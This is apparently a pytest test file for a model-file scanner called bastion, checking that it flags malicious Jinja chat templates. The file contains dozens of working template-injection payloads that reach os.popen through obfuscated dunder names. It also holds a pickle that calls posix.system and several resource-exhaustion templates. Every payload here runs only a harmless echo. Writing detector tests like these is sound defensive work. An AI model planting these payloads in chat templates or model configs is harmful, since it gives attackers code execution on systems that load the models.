"""Chat templates that reach Python internals through names they compute (issue #7, class 6).

Each payload is proven: rendered in a subprocess the way a renderer without a sandbox does it
(llama-cpp-python before 0.2.72, CVE-2024-34359: `jinja2.Environment(loader=BaseLoader())`), it
runs a harmless `echo` into a marker file. bastion must flag each one with JIN001, from the
static analysis alone when the payload sits in a branch the dry run never takes, and from the dry
run when it runs. Before issue #7 the computed-name payloads passed (only literal dunders,
`|attr` and a list of global names were matched)."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
from helpers import gate_fails, rules, scan_data

from bastion.findings import Severity
from bastion.scan.templates import analyse_template

MARK = "echo bastion-marker > marker"
# the names the payloads need, each built without writing a dunder literally
NAMES = {
    "tilde": "{% set u = '_' %}{% set i = u ~ u ~ 'in' ~ 'it' ~ u ~ u %}"
    "{% set g = u ~ u ~ 'glo' ~ 'bals' ~ u ~ u %}{% set p = 'po' ~ 'pen' %}",
    "percent_c": "{% set i = '%c%c' % (95, 95) ~ 'init' ~ '%c%c' % (95, 95) %}"
    "{% set g = '%c%cglobals%c%c' | format(95, 95, 95, 95) %}{% set p = 'po' ~ 'pen' %}",
    "join": "{% set i = ['_', '_', 'in', 'it', '_', '_'] | join %}"
    "{% set g = ['_', '_', 'glob', 'als', '_', '_'] | join %}{% set p = ['po', 'pen'] | join %}",
    "slice": "{% set s = 'x__init__x__globals__xpopen' %}{% set i = s[1:9] %}{% set g = s[10:21] %}"
    "{% set p = s[22:] %}",
    "reverse": "{% set i = '__tini__' | reverse %}{% set g = '__slabolg__' | reverse %}"
    "{% set p = 'nepop' | reverse %}",
    "namespace": "{% set ns = namespace(i='', g='') %}{% for c in ['_', '_', 'init', '_', '_'] %}"
    "{% set ns.i = ns.i ~ c %}{% endfor %}{% set ns.g = '__glo' ~ 'bals__' %}"
    "{% set i = ns.i %}{% set g = ns.g %}{% set p = 'po' ~ 'pen' %}",
    # no literal underscore at all: picked out of the text of data-independent objects
    "dict_keys": "{% set u = (messages[0].keys() | string)[4] %}"
    "{% set i = u ~ u ~ 'init' ~ u ~ u %}{% set g = u ~ u ~ 'globals' ~ u ~ u %}"
    "{% set p = 'po' ~ 'pen' %}",
    "generator_repr": "{% set u = (messages | map('string') | string)[22] %}"
    "{% set i = u ~ u ~ 'init' ~ u ~ u %}{% set g = u ~ u ~ 'globals' ~ u ~ u %}"
    "{% set p = 'po' ~ 'pen' %}",
}
# ways to use the names: subscripts by variable, |attr, map(attribute=), a macro's arguments
USES = {
    "subscript": "{{ cycler[i][g]['os'][p]('" + MARK + "').read() }}",
    "attr_filter": "{{ ((cycler | attr(i) | attr(g))['os'] | attr(p))('" + MARK + "').read() }}",
    "map_attribute": "{% set m = ([cycler] | map(attribute=i) | map(attribute=g) | first)['os'] %}"
    "{{ ([m] | map(attribute=p) | first)('" + MARK + "').read() }}",
    "macro_args": "{% macro reach(o, a, b, c) %}{{ o[a][b]['os'][c]('" + MARK + "').read() }}"
    "{% endmacro %}{{ reach(cycler, i, g, p) }}",
    # no Jinja global at all: the loop object's bound method leads to jinja2.runtime's globals
    "loop_object": "{% set u = i[:2] %}{% set b = u ~ 'builtins' ~ u %}"
    "{% set m = u ~ 'import' ~ u %}{% for x in messages %}"
    "{{ loop[i][g][b][m]('os')[p]('" + MARK + "').read() }}{% endfor %}",
}
PAYLOADS = {f"{n}-{u}": NAMES[n] + USES[u] for n in NAMES for u in USES}

_RENDER = textwrap.dedent("""
    import sys
    from jinja2 import BaseLoader, Environment
    env = Environment(loader=BaseLoader(), trim_blocks=True, lstrip_blocks=True)
    print(env.from_string(sys.stdin.read()).render(
        messages=[{"role": "user", "content": "hi"}], add_generation_prompt=True,
        bos_token="<s>", eos_token="</s>"))
""")


def render_without_sandbox(template: str, folder: Path, script: str = _RENDER) -> str:
    """What a renderer without a sandbox does with the template (in a subprocess, in `folder`;
    `script` renders stdin with the conversation it sets up)."""
    proc = subprocess.run(
        [sys.executable, "-c", script],
        input=template,
        text=True,
        capture_output=True,
        cwd=folder,
        timeout=60,
    )
    return proc.stdout + proc.stderr


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_computed_name_payload_runs_without_a_sandbox_and_is_flagged(
    name: str, tmp_path: Path
) -> None:
    template = PAYLOADS[name]
    render_without_sandbox(template, tmp_path)
    assert (tmp_path / "marker").read_text().strip() == "bastion-marker"  # proven
    issues = analyse_template(template)
    assert any(i.rule == "JIN001" and i.severity == Severity.CRITICAL for i in issues), issues
    result = scan_data(template.encode(), "chat_template.jinja")
    assert "JIN001" in rules(result, Severity.HIGH) and gate_fails(result)


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_payload_in_a_branch_the_dry_run_never_takes_is_flagged_statically(name: str) -> None:
    template = "{% if messages | length > 1000 %}" + PAYLOADS[name] + "{% endif %}hello"
    issues = analyse_template(template)
    static = [i for i in issues if not i.evidence.startswith("dry run")]
    assert static and all(i.rule == "JIN001" for i in static), issues
    assert max(i.severity.rank for i in static) >= Severity.HIGH.rank


@pytest.mark.parametrize(
    "template",
    [
        "{{ '{0.__class__}'.format(messages) }}",
        "{% set f = '{0.__init__.__globals__}'.format %}{{ f(cycler) }}",
        "{{ '{0.__class__}'.format_map(messages) }}",
        "{{ '{0.__init__.__globals__}' | attr('format')(cycler) }}",
    ],
)
def test_str_format_fields_that_read_internals(template: str, tmp_path: Path) -> None:
    assert "module" in render_without_sandbox(
        template, tmp_path
    ) or "class" in render_without_sandbox(template, tmp_path)
    assert any(i.severity == Severity.CRITICAL for i in analyse_template(template))


def test_dry_run_sees_names_the_static_analysis_cannot_follow() -> None:
    # the key comes out of a dict built at run time; the dry run reads it and is refused
    template = (
        "{% set d = {} %}{% for k in (d | list) + ['x'] %}{% endfor %}"
        "{% set names = dict.fromkeys(['_' + '_class__']) | list %}"
        "{% for k in names %}{{ messages[k] }}{% endfor %}"
    )
    issues = analyse_template(template)
    assert any(i.evidence == "dry run: list.__class__" for i in issues), issues


def test_namespace_and_ordinary_subscripts_are_not_flagged() -> None:
    template = (
        "{% set ns = namespace(last=-1, sys='') %}{% for m in messages %}"
        "{% if m['role'] == 'system' %}{% set ns.sys = m['content'] %}{% endif %}"
        "{% if loop.index0 > 0 and messages[loop.index0 - 1].role != 'tool' %}"
        "{% set ns.last = loop.index0 %}{% endif %}{{ m.content | trim }}"
        "{% for k, v in (m.tool_calls or [{}])[0] | items %}{{ k }}={{ v | tojson }}"
        "{% endfor %}{% endfor %}{{ messages[::-1][0]['role'] }}{{ ns.sys }}"
        "{{ raise_exception('x') if messages | length > 99 }}"
    )
    assert analyse_template(template) == []


@pytest.mark.parametrize(
    "template",
    [
        "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
        "{% set s = 'x' * 100000 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}",
        "{{ 'x' * 1000000000 }}",
        "{{ 'x' | center(1000000000) }}",
        "{{ '%999999999s' % 'x' }}",
        "{{ 2 ** 100000000 }}",
        "{% set ns = namespace(s='x') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}"
        "{% endfor %}{{ ns.s | length }}",
        "{% macro f(s) %}{{ f(s ~ s) }}{% endmacro %}{{ f('x') }}",
        "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}",
    ],
)
def test_templates_that_do_not_finish_are_reported_within_bounds(template: str) -> None:
    started = time.monotonic()
    issues = analyse_template(template)
    assert time.monotonic() - started < 10
    assert any(i.rule == "JIN003" for i in issues), issues
    result = scan_data(json.dumps({"chat_template": template}).encode(), "tokenizer_config.json")
    assert "JIN003" in rules(result, Severity.MEDIUM)


def test_a_pickle_named_jinja_is_scanned_as_both() -> None:
    data = b"\x80\x02cposix\nsystem\nX\x04\x00\x00\x00echo\x85R."
    result = scan_data(data, "chat_template.jinja")
    assert "PKL001" in rules(result, Severity.CRITICAL)


def test_a_template_nested_in_a_processor_config_is_analysed() -> None:
    config = {
        "processor_class": "LlavaProcessor",
        "image_processor": {"chat_template": "{{ messages.__class__ }}"},
    }
    result = scan_data(json.dumps(config).encode(), "processor_config.json")
    found = [f for f in result.findings if f.rule_id == "JIN001"]
    assert found and found[0].location.pointer == "image_processor.chat_template"


def test_do_statements_are_parsed_and_analysed() -> None:
    assert any(i.rule == "JIN001" for i in analyse_template("{% do messages.__class__ %}"))


def test_a_template_too_large_to_analyse_is_not_clean() -> None:
    template = "{{ cycler.__init__.__globals__ }}" + "x" * 1_100_000
    result = scan_data(template.encode(), "chat_template.jinja")
    assert result.incomplete and gate_fails(result)


@pytest.mark.parametrize(
    "source",
    [
        "(lipsum ~ '')",
        "('%s' | format(lipsum))",
        "(raise_exception | string)",
        "(namespace(a_b=1) | string)",
        "(dict(a_b=1) | tojson)",
    ],
)
def test_underscores_taken_from_object_reprs_are_followed(source: str, tmp_path: Path) -> None:
    # the template never writes '_': it slices one out of the text of an object
    finder = (
        "{% set ns = namespace(u='') %}{% for c in " + source + " %}"
        "{% if c == c | upper and c == c | lower and c not in ' <>{}()\"\\':.,=0123456789' "
        "%}{% set ns.u = c %}{% endif %}{% endfor %}"
    )
    template = (
        "{% if messages | length > 1000 %}"
        + finder
        + "{{ messages[ns.u ~ ns.u ~ 'class' ~ ns.u ~ ns.u] }}{% endif %}"
    )
    static = [i for i in analyse_template(template) if not i.evidence.startswith("dry run")]
    assert any(i.evidence == "computed subscript" for i in static), static


def test_names_built_from_the_configs_special_tokens_are_followed(tmp_path: Path) -> None:
    # transformers hands bos_token & co. to the template; they come from the same config
    template = (
        "{% set u = bos_token[3] %}{% set i = u ~ u ~ 'init' ~ u ~ u %}"
        "{% set g = u ~ u ~ 'globals' ~ u ~ u %}"
        "{{ cycler[i][g]['os']['po' ~ 'pen']('" + MARK + "').read() }}"
    )
    render = _RENDER.replace('bos_token="<s>"', 'bos_token="<|a_b|>"')
    render_without_sandbox(template, tmp_path, render)
    assert (tmp_path / "marker").read_text().strip() == "bastion-marker"  # proven
    config = {"bos_token": {"content": "<|a_b|>", "special": True}, "chat_template": template}
    result = scan_data(json.dumps(config).encode(), "tokenizer_config.json")
    evidence = {f.evidence for f in result.findings if f.rule_id == "JIN001"}
    assert "computed subscript" in evidence and "dry run: type.__init__" in evidence, evidence


_KEY = "{{ messages[k ~ k ~ 'class' ~ k ~ k] }}"


@pytest.mark.parametrize(
    "maker",
    [
        "{% for i in range(96) %}{% if loop.last %}{% set k = '%c' | format(i) %}"
        + _KEY
        + "{% endif %}{% endfor %}",
        "{% for i in range(96) %}{% if loop.last %}{% set k = '{:c}'.format(i) %}"
        + _KEY
        + "{% endif %}{% endfor %}",
        "{% set k = (95).to_bytes(1, 'big').decode() %}" + _KEY,
        "{% block b %}_{% endblock %}{% set k = self.b() %}" + _KEY,
        "{% macro m() %}{% set k = kwargs | list | first %}{{ messages[k] }}{% endmacro %}"
        "{{ m(__class__=1) }}",
        "{% set k = strftime_now('_') %}" + _KEY,
        "{% set k = joiner('_')() ~ '' %}" + _KEY,
    ],
)
def test_other_ways_to_make_an_underscore_are_followed(maker: str) -> None:
    template = "{% if messages | length > 1000 %}" + maker + "{% endif %}"
    static = [i for i in analyse_template(template) if not i.evidence.startswith("dry run")]
    assert any(i.evidence == "computed subscript" for i in static), static


def test_a_template_that_parses_but_does_not_compile_keeps_its_static_findings() -> None:
    issues = analyse_template("{{ cycler.__init__.__globals__ }}{% break %}")
    assert any(i.parse_error for i in issues)
    assert any(i.evidence == ".__globals__" and i.severity == Severity.CRITICAL for i in issues)


_RENDER_TOOL_CALLS = textwrap.dedent("""
    import sys
    from jinja2 import BaseLoader, Environment
    call = {"type": "function", "function": {"name": "f", "arguments": "{}"}}
    messages = [{"role": "user", "content": "hi"}] * 10 + [
        {"role": "assistant", "content": "", "tool_calls": [call]}]
    env = Environment(loader=BaseLoader())
    print(env.from_string(sys.stdin.read()).render(messages=messages))
""")
DATA_KEY_CHARACTER = (
    "{%- for m in messages %}{{ m.content }}{% if messages|length > 9 %}{% for k in m %}"
    "{% if k|length == 10 and k[0] == 't' %}{% set u = k[4] %}"
    "{% set i = u*2 + 'init' + u*2 %}{% set g = u*2 + 'glo' + 'bals' + u*2 %}"
    "{% set x = cycler[i][g]['o' + 's']['po' + 'pen']('echo bastion-marker > marker') %}"
    "{% endif %}{% endfor %}{% endif %}{%- endfor %}"
)


@pytest.mark.parametrize(
    "pick",
    [
        "{% set u = k[4] %}",
        "{% set u = (k[4:])|first %}",
        "{% set u = k[4:5] %}",
        # A2-05b: by iterating the key
        "{% set ns = namespace(c='') %}{% for c in k %}{% if loop.index == 5 %}"
        "{% set ns.c = c %}{% endif %}{% endfor %}{% set u = ns.c %}",
    ],
)
def test_a_character_picked_out_of_a_conversation_key_is_followed(
    pick: str, tmp_path: Path
) -> None:
    """White-box attack A2-05: '_' taken out of the key 'tool_calls' and joined with `+`, in a
    branch only long conversations take (the dry run's were at most 6 messages)."""
    template = DATA_KEY_CHARACTER.replace("{% set u = k[4] %}", pick)
    render_without_sandbox(template, tmp_path, _RENDER_TOOL_CALLS)
    assert (tmp_path / "marker").read_text().strip() == "bastion-marker"  # proven
    issues = analyse_template(template)
    assert any(i.rule == "JIN001" and i.severity.rank >= Severity.HIGH.rank for i in issues)
    assert gate_fails(scan_data(template.encode(), "chat_template.jinja"))


# A2-05c: the key iterated through a call (`m.keys()`), the underscore cut out with a str method
# (`k.strip('tolcas')` is '_'), the names joined with `+`, in a branch only a conversation
# mentioning 'invoice' takes
KEY_METHOD_CHARACTER = (
    "{%- for m in messages %}<|{{ m.role }}|>{{ m.content }}\n"
    "{% if m.tool_calls is defined and 'invoice' in messages[0].content %}"
    "{% for k in m.keys() %}{% if k.startswith('tool') and k.endswith('calls') %}"
    "{% set c = k.strip('tolcas') %}"
    "{% set i = c + c + 'init' + c + c %}{% set g = c + c + 'glo' + 'bals' + c + c %}"
    "{% set x = cycler[i][g]['o' + 's']['po' + 'pen']('echo bastion-marker > marker') %}"
    "{% endif %}{% endfor %}{% endif %}{%- endfor %}"
)
_RENDER_INVOICE = _RENDER_TOOL_CALLS.replace(
    '[{"role": "user", "content": "hi"}] * 10', '[{"role": "user", "content": "an invoice"}]'
)


@pytest.mark.parametrize(
    "cut",
    [
        "{% set c = k.strip('tolcas') %}",
        "{% set c = k.replace('tool', '').replace('calls', '') %}",
        "{% set c = k.lstrip('tol').rstrip('cals') %}",
        "{% set c = k.partition('l')[2].partition('c')[0] %}",
        "{% set c = k.upper().lower().split('l')[1][0] %}",
        # the key aliased before it is iterated
        "{% set kk = k %}{% set ns = namespace(c='') %}{% for ch in kk %}"
        "{% if loop.index == 5 %}{% set ns.c = ch %}{% endif %}{% endfor %}{% set c = ns.c %}",
    ],
)
def test_a_character_cut_out_of_a_key_with_a_str_method_is_followed(
    cut: str, tmp_path: Path
) -> None:
    """White-box attack A2-05c: str methods on a conversation key (not filters) produce '_';
    `+` joins the names. Proven with an unsandboxed render; bastion fails the gate statically."""
    template = KEY_METHOD_CHARACTER.replace("{% set c = k.strip('tolcas') %}", cut)
    render_without_sandbox(template, tmp_path, _RENDER_INVOICE)
    for _ in range(20):  # os.popen runs the command asynchronously
        if (tmp_path / "marker").exists():
            break
        time.sleep(0.1)
    assert (tmp_path / "marker").read_text().strip() == "bastion-marker"  # proven
    issues = analyse_template(template)
    assert any(i.rule == "JIN001" and i.severity.rank >= Severity.HIGH.rank for i in issues)
    assert gate_fails(scan_data(template.encode(), "chat_template.jinja"))


def test_text_methods_and_plus_on_data_are_not_names() -> None:
    """The benign side: str methods and `+` on conversation text that is only rendered (or
    used as an ordinary value) are not reported; a lookup by such a name is."""
    rendered = (
        "{% for m in messages %}{{ '<|' + m.role.strip().upper() + '|>' }}"
        "{{ m.content.replace('\\n', ' ').lower() }}{% if m.content.startswith('x') %}"
        "{{ m.content.split(':')[0] }}{% endif %}{{ messages[loop.index0 + 0].role }}"
        "{% endfor %}"
    )
    assert not [i for i in analyse_template(rendered) if i.severity.rank >= Severity.HIGH.rank]
    looked_up = "{% for m in messages %}{{ cycler[m.role.strip('aeiou')] }}{% endfor %}"
    assert any(i.rule == "JIN001" for i in analyse_template(looked_up))


def test_internal_names_passed_to_a_call_are_flagged(tmp_path: Path) -> None:
    """ModelAudit's getattr_bypass sample: harmless in Jinja, whose globals hold no getattr,
    but a renderer that adds one (or any name resolver) walks to os with these literals."""
    template = "{{ getattr(getattr(getattr('', '__class__'), '__mro__')[1], '__subclasses__')() }}"
    issues = analyse_template(template)
    assert any(i.rule == "JIN001" and i.severity == Severity.CRITICAL for i in issues), issues
    assert gate_fails(scan_data(template.encode(), "chat_template.jinja"))


def test_a_template_file_named_dot_template_is_analysed() -> None:
    """ModelAudit's malicious_subprocess.template: template text under a .template name."""
    from helpers import gate_fails

    template = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    assert gate_fails(scan_data(template.encode(), "chat.template"))
    assert not gate_fails(
        scan_data(b"{% for m in messages %}{{ m.content }}{% endfor %}", "chat.template")
    )
